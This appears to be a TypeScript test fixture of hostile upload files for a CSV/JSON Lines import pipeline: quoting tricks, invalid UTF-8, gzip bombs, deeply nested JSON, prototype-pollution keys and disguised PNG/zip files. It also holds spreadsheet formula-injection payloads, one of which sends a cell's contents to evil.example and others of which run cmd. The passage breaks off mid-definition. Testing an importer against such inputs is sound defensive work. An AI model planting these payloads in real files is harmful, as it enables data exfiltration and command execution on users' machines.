import { Readable } from "node:stream";
import { crc32, deflateRawSync, deflateSync, gzipSync } from "node:zlib";
import { generateContactsCsv } from "@/lib/testing/generate-contacts-csv";

/*
 * A corpus of hostile and broken upload files, each with the outcome a correct
 * import gives it. Files are built on demand: small ones as a Buffer, big ones
 * as a Readable that never holds more than one repeated piece (gzip "bombs" are
 * concatenated gzip members, which RFC 1952 allows and gunzip reads as one stream).
 * Nothing here is random: the few "binary" bytes come from a seeded generator.
 */

const KIB = 1024;
const MIB = 1024 * KIB;

/** The limits the expectations are written against; the test starts its stack with them. */
export const HOSTILE_LIMITS = {
  /** Small chunks, so that the multi-chunk files below really span chunks. */
  chunkBytes: 64 * KIB,
  maxRowBytes: 1 * MIB,
  maxDecompressedBytes: 256 * MIB,
} as const;

export type HostileTemplateId = "contacts" | "orders";

export interface ExpectedOutcome {
  state: "succeeded" | "completed_with_errors" | "failed";
  counts?: { rows: number; valid: number; rejected: number };
  failureReason?: RegExp;
  /** Rows of the error report, by row number in the file (CSV header = row 1), with their reason and, when given, their cells exactly. */
  reportRows?: { row: number; reason: RegExp; cells?: string[] }[];
  /** How many report rows have a reason like this (for rows whose number depends on which chunk wins). */
  reportReasonCounts?: { reason: RegExp; count: number }[];
  /** Records that must be stored, by record key, with (at least) this data. */
  stored?: Record<string, Record<string, unknown>>;
  /** The file spans at least this many chunks (what makes a cross-chunk case one). */
  minChunks?: number;
}

export interface HostileCase {
  name: string;
  fileName: string;
  templateId: HostileTemplateId;
  build: () => Buffer | Readable;
  expected: ExpectedOutcome;
  /** The test process (which runs the worker) may grow by at most this many bytes of RSS while the job runs (after the upload). */
  maxRssGrowthBytes?: number;
}

/*
 * RSS the worker may add while it imports a big file (measured from the end of
 * the upload; on this machine it adds 5-15 MiB for the 50 MB line and 10-50 MiB
 * for 256 MiB of decompression). Each bound is below the size of what a case
 * must not hold: the 48-50 MB record, the 256 MiB that is decompressed.
 */
const STREAMING_RSS = 32 * MIB;
const DECOMPRESSING_RSS = 96 * MIB;

const HEADER = "email,first_name,last_name";
const ROW_TOO_LONG = /^row is longer than 1 MiB$/;
/** Lines of about 10 KiB after an opened quote: 3 MiB, well past the 1 MiB row limit. */
const OPEN_QUOTE_LINES = 300;

function person(index: number): string {
  return `p${index}@example.com,First${index},Last${index}`;
}

function people(from: number, to: number): string[] {
  return Array.from({ length: to - from + 1 }, (_, offset) => person(from + offset));
}

function storedPerson(index: number): Record<string, Record<string, unknown>> {
  return { [`p${index}@example.com`]: { first_name: `First${index}`, last_name: `Last${index}` } };
}

/** Quotes a CSV cell when it needs it (RFC 4180). */
function cell(text: string): string {
  return /[",\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
}

function csvRow(cells: string[]): string {
  return cells.map(cell).join(",");
}

function csvFile(rows: string[], newline = "\r\n"): Buffer {
  return Buffer.from(rows.map((row) => row + newline).join(""));
}

function jsonLines(values: unknown[]): Buffer {
  return Buffer.from(values.map((value) => (typeof value === "string" ? value : JSON.stringify(value))).join("\n") + "\n");
}

/** A stream of pieces, each repeated `times`: a big file from a few small buffers. */
function streamOf(pieces: { bytes: Buffer; times?: number }[]): Readable {
  return Readable.from(
    (function* () {
      for (const piece of pieces) for (let count = 0; count < (piece.times ?? 1); count++) yield piece.bytes;
    })(),
    { objectMode: false },
  );
}

/** mulberry32: a fixed seed gives the same "binary" bytes on every run. */
function seededBytes(length: number, seed: number): Buffer {
  const bytes = Buffer.alloc(length);
  let state = seed >>> 0;
  for (let index = 0; index < length; index++) {
    state = (state + 0x6d2b79f5) >>> 0;
    let value = Math.imul(state ^ (state >>> 15), state | 1);
    value ^= value + Math.imul(value ^ (value >>> 7), value | 61);
    bytes[index] = ((value ^ (value >>> 14)) >>> 0) & 0xff;
  }
  return bytes;
}

function pngChunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
  const frame = Buffer.alloc(8 + body.length);
  frame.writeUInt32BE(data.length, 0);
  body.copy(frame, 4);
  frame.writeUInt32BE(crc32(body), 4 + body.length);
  return frame;
}

/** A real 64×64 RGB PNG of noise. */
function png(): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(64, 0);
  header.writeUInt32BE(64, 4);
  header.set([8, 2, 0, 0, 0], 8);
  const scanlines = seededBytes(64 * (1 + 64 * 3), 7);
  for (let line = 0; line < 64; line++) scanlines[line * (1 + 64 * 3)] = 0; // filter type "none"
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([signature, pngChunk("IHDR", header), pngChunk("IDAT", deflateSync(scanlines)), pngChunk("IEND", Buffer.alloc(0))]);
}

/** A real zip archive holding one deflated file. */
function zipOf(name: string, content: Buffer): Buffer {
  const data = deflateRawSync(content);
  const fileName = Buffer.from(name);
  const checksum = crc32(content);
  const dosDate = ((2024 - 1980) << 9) | (1 << 5) | 1;
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(8, 8);
  local.writeUInt16LE(dosDate, 12);
  local.writeUInt32LE(checksum, 14);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(content.length, 22);
  local.writeUInt16LE(fileName.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt16LE(8, 10);
  central.writeUInt16LE(dosDate, 14);
  central.writeUInt32LE(checksum, 16);
  central.writeUInt32LE(data.length, 20);
  central.writeUInt32LE(content.length, 24);
  central.writeUInt16LE(fileName.length, 28);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + fileName.length, 12);
  end.writeUInt32LE(local.length + fileName.length + data.length, 16);
  return Buffer.concat([local, fileName, data, central, fileName, end]);
}

function utf16(text: string, byteOrder: "LE" | "BE"): Buffer {
  const littleEndian = Buffer.from(`\uFEFF${text}`, "utf16le");
  return byteOrder === "LE" ? littleEndian : Buffer.from(littleEndian).swap16();
}

/** One gzip member of `length` bytes of `fill`, repeated `times` by the stream: `times` × `length` decompressed. */
function gzipMembers(fill: string, length: number, times: number): { bytes: Buffer; times: number } {
  return { bytes: gzipSync(Buffer.alloc(length, fill)), times };
}

const quoting: HostileCase[] = [
  {
    // RFC 4180 (and papaparse): an opened quote runs to the end of the file, so the rest of a small file is one malformed row.
    name: "an unbalanced quote swallows the rest of a small file into one rejected row",
    fileName: "unbalanced.csv",
    templateId: "contacts",
    build: () => csvFile([HEADER, person(1), `"p2@example.com,First2,Last2`, person(3)]),
    expected: { state: "completed_with_errors", counts: { rows: 2, valid: 1, rejected: 1 }, reportRows: [{ row: 3, reason: /^expected 3 columns, found 1$/ }], stored: storedPerson(1) },
  },
  {
    // A quote left open swallows every line after it into one record. Past MAX_ROW_BYTES that record's first
    // line is a row error and reading starts again on the next line: one stray quote costs one row, not the file,
    // and the reader never holds more than the row limit.
    name: "an unbalanced quote near the top of a 3 MiB file costs one over-long row; the rows after it are read",
    fileName: "unbalanced-big.csv",
    templateId: "contacts",
    // Long lines (a 10 KiB "notes" column the template ignores), so 3 MiB are a few hundred rows.
    build: () => {
      const notes = `,${"n".repeat(10 * 1024)}`;
      return csvFile([`${HEADER},notes`, person(1) + notes, `"${person(1000)}${notes}`, ...people(1001, 1000 + OPEN_QUOTE_LINES - 1).map((line) => line + notes)]);
    },
    expected: {
      state: "completed_with_errors",
      counts: { rows: OPEN_QUOTE_LINES + 1, valid: OPEN_QUOTE_LINES, rejected: 1 },
      reportRows: [{ row: 3, reason: ROW_TOO_LONG }],
      stored: { ...storedPerson(1), ...storedPerson(1001), ...storedPerson(1000 + OPEN_QUOTE_LINES - 1) },
    },
    maxRssGrowthBytes: STREAMING_RSS,
  },
  {
    // Papaparse reads `"Bob"x` as a quoted field that goes on (the quote after Bob is text): the next line joins the row. Chosen: as papaparse reads it.
    name: "text after a closing quote keeps the field open into the next line",
    fileName: "after-quote.csv",
    templateId: "contacts",
    build: () => csvFile([HEADER, `p1@example.com,"Bob"x,Last1`, person(2)]),
    expected: { state: "completed_with_errors", counts: { rows: 1, valid: 0, rejected: 1 }, reportRows: [{ row: 2, reason: /^expected 3 columns, found 2$/ }] },
  },
  {
    name: "a quote inside an unquoted field is text",
    fileName: "inner-quote.csv",
    templateId: "contacts",
    build: () => csvFile([HEADER, `p1@example.com,Bo"b,O"Brien`, person(2)]),
    expected: { state: "succeeded", counts: { rows: 2, valid: 2, rejected: 0 }, stored: { "p1@example.com": { first_name: 'Bo"b', last_name: 'O"Brien' }, ...storedPerson(2) } },
  },
  {
    name: "quoted delimiters, escaped quotes and line breaks survive rows spread over many chunks",
    fileName: "multiline.csv",
    templateId: "contacts",
    build: () =>
      csvFile([
        `${HEADER},company`,
        ...Array.from({ length: 1500 }, (_, index) => `${person(index + 1)},${cell(`Acme "${index}", Inc.\r\nFloor ${index}\nRoom, "B"`)}`),
      ]),
    expected: {
      state: "succeeded",
      counts: { rows: 1500, valid: 1500, rejected: 0 },
      minChunks: 2,
      // CRLF inside a quoted cell reads as LF: every line break is normalized to LF before parsing.
      stored: { "p1500@example.com": { company: 'Acme "1499", Inc.\nFloor 1499\nRoom, "B"' } },
    },
  },
];

const lineEndings: HostileCase[] = [
  {
    // Each line is a row, whatever its line ending (as the planner counts them): rows must not merge.
    name: "mixed CRLF and LF line endings: every line is a row",
    fileName: "mixed-endings.csv",
    templateId: "contacts",
    build: () => Buffer.from(`${HEADER}\r\n${person(1)}\n${person(2)}\r\n${person(3)}\n${person(4)}\r\n`),
    expected: { state: "succeeded", counts: { rows: 4, valid: 4, rejected: 0 }, stored: { ...storedPerson(1), ...storedPerson(3) } },
  },
  {
    // Chosen: refused with a reason rather than read as one header line (which would silently import nothing).
    name: "CR-only line endings (classic Mac): the job fails saying so, nothing is silently dropped",
    fileName: "cr-only.csv",
    templateId: "contacts",
    build: () => csvFile([HEADER, ...people(1, 3)], "\r"),
    expected: { state: "failed", failureReason: /carriage return only/ },
  },
  {
    name: "LF endings and no line break after the last row",
    fileName: "no-final-newline.csv",
    templateId: "contacts",
    build: () => Buffer.from([HEADER, ...people(1, 2)].join("\n")),
    expected: { state: "succeeded", counts: { rows: 2, valid: 2, rejected: 0 }, stored: storedPerson(2) },
  },
];

const encodings: HostileCase[] = [
  {
    name: "a UTF-8 BOM and semicolons as delimiter",
    fileName: "bom-semicolon.csv",
    templateId: "contacts",
    build: () => Buffer.from(`\uFEFFemail;first_name;last_name\r\np1@example.com;Ann, Jr.;Last1\r\n${person(2).replaceAll(",", ";")}\r\n`),
    expected: { state: "succeeded", counts: { rows: 2, valid: 2, rejected: 0 }, stored: { "p1@example.com": { first_name: "Ann, Jr." } } },
  },
  {
    name: "a UTF-8 BOM and tabs as delimiter (a spreadsheet's text export)",
    fileName: "bom-tab.csv",
    templateId: "contacts",
    build: () => Buffer.from(`\uFEFFemail\tfirst_name\tlast_name\r\np1@example.com\tAnn; Jr.\tLast1\r\n${person(2).replaceAll(",", "\t")}\r\n`),
    expected: { state: "succeeded", counts: { rows: 2, valid: 2, rejected: 0 }, stored: { "p1@example.com": { first_name: "Ann; Jr." } } },
  },
  {
    name: "pipes as delimiter",
    fileName: "pipes.csv",
    templateId: "contacts",
    build: () => csvFile([HEADER, ...people(1, 3)].map((line) => line.replaceAll(",", "|"))),
    expected: { state: "succeeded", counts: { rows: 3, valid: 3, rejected: 0 }, stored: storedPerson(3) },
  },
  {
    name: "invalid UTF-8 in a data cell rejects that row only",
    fileName: "invalid-utf8.csv",
    templateId: "contacts",
    build: () => Buffer.concat([Buffer.from(`${HEADER}\r\n${person(1)}\r\np2@example.com,`), Buffer.from([0xff, 0xfe, 0x41]), Buffer.from(`,Last2\r\n${person(3)}\r\n`)]),
    expected: { state: "completed_with_errors", counts: { rows: 3, valid: 2, rejected: 1 }, reportRows: [{ row: 3, reason: /^column 2 holds bytes that are not valid UTF-8$/ }] },
  },
  {
    name: "overlong encodings, encoded surrogates and code points past U+10FFFF are invalid UTF-8",
    fileName: "overlong-utf8.csv",
    templateId: "contacts",
    build: () =>
      Buffer.concat([
        Buffer.from(`${HEADER}\r\n${person(1)}\r\np2@example.com,`),
        Buffer.from([0xc0, 0xaf]),
        Buffer.from(",Last2\r\np3@example.com,"),
        Buffer.from([0xed, 0xa0, 0x80]),
        Buffer.from(",Last3\r\np4@example.com,First4,"),
        Buffer.from([0xf4, 0x90, 0x80, 0x80]),
        Buffer.from("\r\n"),
      ]),
    expected: {
      state: "completed_with_errors",
      counts: { rows: 4, valid: 1, rejected: 3 },
      reportRows: [
        { row: 3, reason: /^column 2 holds bytes that are not valid UTF-8$/ },
        { row: 4, reason: /^column 2 holds bytes that are not valid UTF-8$/ },
        { row: 5, reason: /^column 3 holds bytes that are not valid UTF-8$/ },
      ],
    },
  },
  {
    name: "invalid UTF-8 in the header fails the job with a reason",
    fileName: "invalid-utf8-header.csv",
    templateId: "contacts",
    build: () => Buffer.concat([Buffer.from("email,first_"), Buffer.from([0xff]), Buffer.from(`name,last_name\r\n${person(1)}\r\n`)]),
    expected: { state: "failed", failureReason: /header row cannot be read: column 2 holds bytes that are not valid UTF-8/ },
  },
  {
    // Chosen: UTF-16 is not transcoded; it is refused with a reason that points at the encoding.
    name: "UTF-16 LE with a BOM is refused with a reason naming UTF-8",
    fileName: "utf16le.csv",
    templateId: "contacts",
    build: () => utf16(`${HEADER}\r\n${person(1)}\r\n`, "LE"),
    expected: { state: "failed", failureReason: /UTF-8/ },
  },
  {
    name: "UTF-16 BE with a BOM is refused with a reason naming UTF-8",
    fileName: "utf16be.csv",
    templateId: "contacts",
    build: () => utf16(`${HEADER}\r\n${person(1)}\r\n`, "BE"),
    expected: { state: "failed", failureReason: /UTF-8/ },
  },
  {
    name: "multi-byte characters, emoji and bidi controls survive reads split anywhere",
    fileName: "unicode.csv",
    templateId: "contacts",
    build: () => csvFile([HEADER, ...Array.from({ length: 1500 }, (_, index) => `u${index + 1}@example.com,Zoë 渡辺 ${index + 1},Ørsted 👩‍👩‍👧 \u202Eevil\u200D${index + 1}`)]),
    expected: {
      state: "succeeded",
      counts: { rows: 1500, valid: 1500, rejected: 0 },
      minChunks: 2,
      stored: { "u1500@example.com": { first_name: "Zoë 渡辺 1500", last_name: "Ørsted 👩‍👩‍👧 \u202Eevil\u200D1500" } },
    },
  },
  {
    // Chosen: NUL is a character like any other; stored as given (records are encrypted JSON, NUL is no hazard there).
    name: "NUL bytes inside cells are stored as given",
    fileName: "nul-cells.csv",
    templateId: "contacts",
    build: () => csvFile([HEADER, "p1@example.com,Bo\0b,Last1", person(2)]),
    expected: { state: "succeeded", counts: { rows: 2, valid: 2, rejected: 0 }, stored: { "p1@example.com": { first_name: "Bo\0b" } } },
  },
  {
    name: "a file of 64 KiB of NUL bytes fails for want of the required columns",
    fileName: "zeros.csv",
    templateId: "contacts",
    build: () => Buffer.alloc(64 * KIB),
    expected: { state: "failed", failureReason: /^Required columns missing: email, first_name, last_name\./ },
  },
  {
    // A known quirk, kept: the reader marks an over-long line with NUL-delimited text in the stream, so a cell
    // holding exactly that text is taken for one. It costs that row only, which is rejected with a reason.
    name: "a cell holding the reader's internal over-long-row marker costs that row only",
    fileName: "marker.csv",
    templateId: "contacts",
    build: () => csvFile([HEADER, "p1@example.com,\0intake:row-too-long\0,Last1", person(2)]),
    expected: { state: "completed_with_errors", counts: { rows: 2, valid: 1, rejected: 1 }, reportRows: [{ row: 2, reason: ROW_TOO_LONG }], stored: storedPerson(2) },
  },
];

const wideHeader = (columns: number, name: (index: number) => string) => Array.from({ length: columns }, (_, index) => name(index + 1));

const headersAndRows: HostileCase[] = [
  {
    name: "ragged rows: too few and too many columns are rejected, the rest imported",
    fileName: "ragged.csv",
    templateId: "contacts",
    build: () => csvFile([HEADER, person(1), "p2@example.com,First2", person(3), `${person(4)},extra`, `${person(5)},`]),
    expected: {
      state: "completed_with_errors",
      counts: { rows: 5, valid: 2, rejected: 3 },
      reportRows: [
        { row: 3, reason: /^expected 3 columns, found 2$/, cells: ["p2@example.com", "First2"] },
        { row: 5, reason: /^expected 3 columns, found 4$/ },
        { row: 6, reason: /^expected 3 columns, found 4$/ },
      ],
    },
  },
  {
    // Chosen: a column without a name maps to no field and is ignored.
    name: "an empty header cell is an ignored column",
    fileName: "empty-header-cell.csv",
    templateId: "contacts",
    build: () => csvFile(["email,,first_name,last_name", "p1@example.com,junk,First1,Last1"]),
    expected: { state: "succeeded", counts: { rows: 1, valid: 1, rejected: 0 }, stored: storedPerson(1) },
  },
  {
    // Chosen: the first column with a field's name feeds it; the repeat is an unmapped column.
    name: "duplicate header names: the first column of a name wins",
    fileName: "duplicate-headers.csv",
    templateId: "contacts",
    build: () => csvFile([`${HEADER},email,First Name`, `${person(1)},other1@example.com,Other`]),
    expected: { state: "succeeded", counts: { rows: 1, valid: 1, rejected: 0 }, stored: storedPerson(1) },
  },
  {
    name: "blank, whitespace-only and delimiter-only lines are skipped and not counted",
    fileName: "blank-lines.csv",
    templateId: "contacts",
    build: () => Buffer.from(`\r\n   \r\n${HEADER}\r\n\r\n${person(1)}\r\n \t \r\n,,\r\n${person(2)}\r\n\r\n\r\n`),
    expected: { state: "succeeded", counts: { rows: 2, valid: 2, rejected: 0 }, stored: storedPerson(2) },
  },
  {
    name: "headers in other case, spacing and alias spellings map to their fields",
    fileName: "aliases.csv",
    templateId: "contacts",
    build: () => csvFile([" E-Mail ,Given Name,SURNAME,Organisation", "p1@example.com,First1,Last1,Acme"]),
    expected: { state: "succeeded", counts: { rows: 1, valid: 1, rejected: 0 }, stored: { "p1@example.com": { first_name: "First1", last_name: "Last1", company: "Acme" } } },
  },
  {
    name: "a blank or whitespace-only required value is rejected",
    fileName: "blank-required.csv",
    templateId: "contacts",
    build: () => csvFile([HEADER, person(1), "p2@example.com,First2,   ", "p3@example.com,,Last3"]),
    expected: {
      state: "completed_with_errors",
      counts: { rows: 3, valid: 1, rejected: 2 },
      reportRows: [
        { row: 3, reason: /^last_name: is required$/ },
        { row: 4, reason: /^first_name: is required$/ },
      ],
    },
  },
  {
    name: "rows 10,000 columns wide",
    fileName: "wide.csv",
    templateId: "contacts",
    build: () => {
      const extra = wideHeader(9997, (index) => `c${index}`);
      const filler = extra.map((_, index) => String(index)).join(",");
      return csvFile([[HEADER, ...extra].join(","), ...people(1, 3).map((line) => `${line},${filler}`), `${person(4)},${filler.slice(0, filler.lastIndexOf(","))}`]);
    },
    expected: {
      state: "completed_with_errors",
      counts: { rows: 4, valid: 3, rejected: 1 },
      reportRows: [{ row: 5, reason: /^expected 10000 columns, found 9999$/ }],
      stored: storedPerson(3),
    },
  },
  {
    // The reason names what is missing; it need not (and, being stored in the job item and sent in webhooks, must not) repeat a huge header.
    name: "a 10,000-column header without the required columns fails with a short reason",
    fileName: "wide-unknown.csv",
    templateId: "contacts",
    build: () => csvFile([wideHeader(10_000, (index) => `column${index}`).join(","), "a,b,c"]),
    expected: { state: "failed", failureReason: /^Required columns missing: email, first_name, last_name\./ },
  },
  {
    name: "a 700 KB header row naming no template field fails with the missing columns, not a storage error",
    fileName: "huge-header.csv",
    templateId: "contacts",
    build: () => csvFile([wideHeader(50_000, (index) => `column_${String(index).padStart(6, "0")}`).join(","), "a,b,c"]),
    expected: { state: "failed", failureReason: /^Required columns missing: email, first_name, last_name\./ },
  },
];

const BIG_LINE_ROWS = { state: "completed_with_errors", counts: { rows: 3, valid: 2, rejected: 1 }, reportRows: [{ row: 3, reason: ROW_TOO_LONG }], stored: storedPerson(3) } as const;

const limitsAndCompression: HostileCase[] = [
  {
    name: "a single 50 MB line is one rejected row, read in bounded memory",
    fileName: "fifty-megabyte-line.csv",
    templateId: "contacts",
    build: () =>
      streamOf([
        { bytes: Buffer.from(`${HEADER}\r\n${person(1)}\r\nlong@example.com,`) },
        { bytes: Buffer.alloc(MIB, "x"), times: 50 },
        { bytes: Buffer.from(`,Last2\r\n${person(3)}\r\n`) },
      ]),
    expected: { ...BIG_LINE_ROWS, reportRows: [...BIG_LINE_ROWS.reportRows] },
    maxRssGrowthBytes: STREAMING_RSS,
  },
  {
    name: "a header row longer than the row limit fails the job",
    fileName: "long-header.csv",
    templateId: "contacts",
    build: () => Buffer.alloc(2 * MIB, "h"),
    expected: { state: "failed", failureReason: /^The header row is longer than 1 MiB\.$/ },
  },
  {
    name: "a 1 GiB line-free gzip stream fails on the header limit in bounded memory",
    fileName: "line-free.csv.gz",
    templateId: "contacts",
    build: () => streamOf([gzipMembers("x", MIB, 1024)]),
    expected: { state: "failed", failureReason: /^The header row is longer than 1 MiB\.$/ },
    maxRssGrowthBytes: STREAMING_RSS,
  },
  {
    name: "a header and then 1 GiB without a line break (gzip) fails on the decompression limit in bounded memory",
    fileName: "header-then-line-free.csv.gz",
    templateId: "contacts",
    build: () => streamOf([{ bytes: gzipSync(`${HEADER}\r\nlong@example.com,`) }, gzipMembers("x", MIB, 1024)]),
    expected: { state: "failed", failureReason: /^The file expands to more than 256 MiB when decompressed\.$/ },
    maxRssGrowthBytes: DECOMPRESSING_RSS,
  },
  {
    name: "a 20 MiB line in a gzip file is one rejected row",
    fileName: "long-line.csv.gz",
    templateId: "contacts",
    build: () =>
      streamOf([
        { bytes: gzipSync(`${HEADER}\r\n${person(1)}\r\nlong@example.com,`) },
        gzipMembers("x", MIB, 20),
        { bytes: gzipSync(`,Last2\r\n${person(3)}\r\n`) },
      ]),
    expected: { ...BIG_LINE_ROWS, reportRows: [...BIG_LINE_ROWS.reportRows] },
  },
  {
    name: "a gzip bomb (2 GiB of blank lines in 2 MB) fails on the decompression limit",
    fileName: "bomb.csv.gz",
    templateId: "contacts",
    build: () => streamOf([{ bytes: gzipSync(`${HEADER}\r\n`) }, { bytes: gzipSync(Buffer.alloc(16 * MIB, `${" ".repeat(1023)}\n`)), times: 128 }]),
    expected: { state: "failed", failureReason: /^The file expands to more than 256 MiB when decompressed\.$/ },
    maxRssGrowthBytes: DECOMPRESSING_RSS,
  },
  {
    name: "a truncated gzip stream fails as invalid gzip",
    fileName: "truncated.csv.gz",
    templateId: "contacts",
    build: () => {
      const whole = gzipSync(csvFile([HEADER, ...people(1, 500)]));
      return whole.subarray(0, Math.floor(whole.length / 2));
    },
    expected: { state: "failed", failureReason: /^The file is not valid gzip: / },
  },
  {
    name: "a gzip stream with corrupted bytes fails as invalid gzip",
    fileName: "corrupt.csv.gz",
    templateId: "contacts",
    build: () => {
      const bytes = Buffer.from(gzipSync(csvFile([HEADER, ...people(1, 500)])));
      for (let index = 40; index < 80; index++) bytes[index] = bytes[index]! ^ 0xff;
      return bytes;
    },
    expected: { state: "failed", failureReason: /^The file is not valid gzip: / },
  },
  {
    name: "an empty gzip stream fails as an empty file",
    fileName: "empty.csv.gz",
    templateId: "contacts",
    build: () => gzipSync(Buffer.alloc(0)),
    expected: { state: "failed", failureReason: /^The file is empty/ },
  },
  {
    name: "gzip content named .csv is decompressed",
    fileName: "really-gzip.csv",
    templateId: "contacts",
    build: () => gzipSync(csvFile([HEADER, ...people(1, 3)])),
    expected: { state: "succeeded", counts: { rows: 3, valid: 3, rejected: 0 }, stored: storedPerson(3) },
  },
  {
    name: "plain CSV named .csv.gz is read as it is",
    fileName: "not-gzip.csv.gz",
    templateId: "contacts",
    build: () => csvFile([HEADER, ...people(1, 3)]),
    expected: { state: "succeeded", counts: { rows: 3, valid: 3, rejected: 0 }, stored: storedPerson(3) },
  },
];

const fileKinds: HostileCase[] = [
  {
    // Chosen: no file-type sniffing is required; binary content fails on its header row with the UTF-8 reason (a friendlier "this is a PNG" would do too).
    name: "a PNG named .csv fails with a reason",
    fileName: "image.csv",
    templateId: "contacts",
    build: png,
    expected: { state: "failed", failureReason: /^The header row cannot be read: column 1 holds bytes that are not valid UTF-8\.$/ },
  },
  {
    name: "a zip archive named .csv fails with a reason",
    fileName: "archive.csv",
    templateId: "contacts",
    build: () => zipOf("contacts.csv", csvFile([HEADER, ...people(1, 50)])),
    expected: { state: "failed", failureReason: /^The header row cannot be read: column 1 holds bytes that are not valid UTF-8\.$/ },
  },
  {
    // Chosen: the name says JSON Lines, so it is read as JSON Lines and fails on its first line.
    name: "a CSV named .jsonl fails on its first line",
    fileName: "contacts.jsonl",
    templateId: "contacts",
    build: () => csvFile([HEADER, ...people(1, 3)]),
    expected: { state: "failed", failureReason: /^The first line cannot be read: line is not valid JSON\.$/ },
  },
  {
    name: "JSON Lines named .csv is recognized by its content",
    fileName: "contacts.csv",
    templateId: "contacts",
    build: () => jsonLines([1, 2].map((index) => ({ email: `p${index}@example.com`, first_name: `First${index}`, last_name: `Last${index}` }))),
    expected: { state: "succeeded", counts: { rows: 2, valid: 2, rejected: 0 }, stored: storedPerson(2) },
  },
];

const contactJson = (index: number, extra: Record<string, unknown> = {}) => ({ email: `p${index}@example.com`, first_name: `First${index}`, last_name: `Last${index}`, ...extra });

const jsonLineCases: HostileCase[] = [
  {
    name: "JSON Lines with one broken line rejects that line only",
    fileName: "broken-line.jsonl",
    templateId: "contacts",
    build: () => jsonLines([contactJson(1), contactJson(2), '{"email": "p3@example.com", "first_name": ', contactJson(4), contactJson(5)]),
    expected: { state: "completed_with_errors", counts: { rows: 5, valid: 4, rejected: 1 }, reportRows: [{ row: 3, reason: /^line is not valid JSON$/ }], stored: storedPerson(5) },
  },
  {
    name: "JSON Lines whose first line is broken fails (it names the columns)",
    fileName: "broken-first.jsonl",
    templateId: "contacts",
    build: () => jsonLines(['{"email": "p1@example.com",', contactJson(2)]),
    expected: { state: "failed", failureReason: /^The first line cannot be read: line is not valid JSON\.$/ },
  },
  {
    name: "JSON Lines with arrays, strings, numbers and null as lines",
    fileName: "not-objects.jsonl",
    templateId: "contacts",
    build: () => jsonLines([contactJson(1), "[1,2]", '"text"', "42", "null", contactJson(6)]),
    expected: {
      state: "completed_with_errors",
      counts: { rows: 6, valid: 2, rejected: 4 },
      reportRows: [2, 3, 4, 5].map((row) => ({ row, reason: /^line is not a JSON object$/ })),
    },
  },
  {
    name: "deeply nested JSON (150,000 objects, 400,000 arrays) is rejected without a crash",
    fileName: "nested.jsonl",
    templateId: "contacts",
    build: () =>
      jsonLines([
        contactJson(1),
        `{"email":"p2@example.com","first_name":${'{"a":'.repeat(150_000)}1${"}".repeat(150_000)},"last_name":"Last2"}`,
        `{"email":"p3@example.com","first_name":"First3","last_name":${"[".repeat(400_000)}${"]".repeat(400_000)}}`,
        contactJson(4),
      ]),
    expected: {
      state: "completed_with_errors",
      counts: { rows: 4, valid: 2, rejected: 2 },
      reportRows: [
        { row: 2, reason: /^first_name: nested objects and arrays are not supported$/ },
        { row: 3, reason: /^last_name: nested objects and arrays are not supported$/ },
      ],
    },
  },
  {
    // A "__proto__" key is data like any other: it must not change how later lines, which lack it, are read.
    name: "__proto__ and constructor keys neither pollute prototypes nor break rows",
    fileName: "proto.jsonl",
    templateId: "contacts",
    build: () =>
      jsonLines([
        '{"email":"p1@example.com","first_name":"First1","last_name":"Last1","__proto__":"x"}',
        '{"email":"p2@example.com","first_name":"First2","last_name":"Last2","__proto__":{"polluted":true}}',
        '{"email":"p3@example.com","first_name":"First3","last_name":"Last3","constructor":{"prototype":{"polluted":true}}}',
        contactJson(4),
      ]),
    expected: {
      state: "completed_with_errors",
      counts: { rows: 4, valid: 3, rejected: 1 },
      reportRows: [{ row: 2, reason: /^__proto__: nested objects and arrays are not supported$/ }],
      stored: { ...storedPerson(1), ...storedPerson(3), ...storedPerson(4) },
    },
  },
  {
    name: "JSON Lines with a BOM, CRLF and blank lines",
    fileName: "crlf.jsonl",
    templateId: "contacts",
    build: () => Buffer.from(`\uFEFF${JSON.stringify(contactJson(1))}\r\n\r\n  \r\n${JSON.stringify(contactJson(2))}\r\n`),
    expected: { state: "succeeded", counts: { rows: 2, valid: 2, rejected: 0 }, stored: storedPerson(2) },
  },
  {
    // As documented: the first object's keys are the columns (a streaming reader cannot know later ones), so a key
    // only later lines have is ignored like an unknown CSV column. Rows are still imported, none is lost.
    name: "JSON Lines: a key the first object lacks is ignored, like an unknown column; every row is imported",
    fileName: "later-keys.jsonl",
    templateId: "contacts",
    build: () => jsonLines([contactJson(1), contactJson(2, { company: "Acme" })]),
    expected: { state: "succeeded", counts: { rows: 2, valid: 2, rejected: 0 }, stored: storedPerson(2) },
  },
  {
    name: "a 2 MiB JSON line is one rejected row",
    fileName: "long-line.jsonl",
    templateId: "contacts",
    build: () => jsonLines([contactJson(1), contactJson(2, { first_name: "x".repeat(2 * MIB) }), contactJson(3)]),
    expected: { state: "completed_with_errors", counts: { rows: 3, valid: 2, rejected: 1 }, reportRows: [{ row: 2, reason: ROW_TOO_LONG }], stored: storedPerson(3) },
  },
];

const ORDER_HEADER = "order_id,customer_email,ordered_at,status,quantity,total,currency";
const order = (id: string, quantity: string, total: string) => csvRow([id, "buyer@example.com", "2024-01-01T10:00:00Z", "paid", quantity, total, "EUR"]);
const order1 = { order_id: "j-1", customer_email: "buyer@example.com", ordered_at: "2024-01-01T10:00:00Z", status: "paid", quantity: 1, total: 1, currency: "EUR" };
const FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-1+1"];

const values: HostileCase[] = [
  {
    // The contacts template has no number fields, so these use orders. Chosen: -0 is a valid decimal kept as written (but not a quantity
    // in 1..1,000,000); an integer in exponent form (1e3) is not a whole number; a decimal keeps its digits as written; values are trimmed.
